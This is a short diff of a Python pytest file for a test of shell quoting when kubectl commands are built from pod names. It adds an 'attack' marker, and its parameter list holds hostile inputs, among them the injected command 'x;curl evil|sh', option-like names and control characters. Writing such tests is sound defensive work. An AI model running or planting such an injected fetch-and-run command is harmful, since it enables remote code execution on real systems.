@@ -37,6 +37,7 @@ def test_command_quotes_a_hostile_name(hostile: str) -> None:
     assert shlex.split(line) == ["kubectl", "get", "pod", hostile]
 
 
+@pytest.mark.attack(33, "x;curl evil|sh")
 @pytest.mark.parametrize(
     "hostile", ["-oyaml", "--help", "", "x;curl evil|sh", "a\nb", "a\x1b[2Jb", "a\u202eb", "{namespace}"]
 )
